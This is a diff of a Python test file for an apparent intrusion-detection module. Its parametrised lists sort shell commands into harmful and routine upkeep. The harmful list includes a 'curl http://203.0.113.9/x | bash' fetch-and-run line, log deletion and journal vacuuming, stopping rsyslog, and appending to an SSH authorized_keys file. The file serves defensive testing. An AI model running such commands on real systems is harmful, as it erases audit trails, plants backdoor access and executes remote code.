@@ -14,7 +14,7 @@ from siaga.detection.behaviours.remote_login.commands import harmful
         "/usr/bin/rm -f /var/log/nginx/access.log",
         "/usr/bin/journalctl --vacuum-time=1s",
         "/usr/bin/systemctl stop rsyslog",
-        "/usr/bin/tee -a /root/.ssh/authorized_keys",
+        "/usr/bin/tee -a /home/admin/.ssh/authorized_keys",
         "/bin/bash -c curl -s http://203.0.113.9/x | bash",
         "/dev/shm/.x",
     ],
@@ -34,6 +34,8 @@ def test_covering_tracks_and_leaving_a_way_back(command: str) -> None:
         "/usr/bin/apt update",
         "/usr/sbin/useradd -m budi",
         "/usr/bin/rm -rf /var/www/lama",
+        "/usr/bin/rm -f /var/log/nginx/access.log.14.gz",
+        "/usr/bin/truncate -s 0 /var/log/aplikasi/debug.log",
     ],
 )
 def test_upkeep(command: str) -> None:
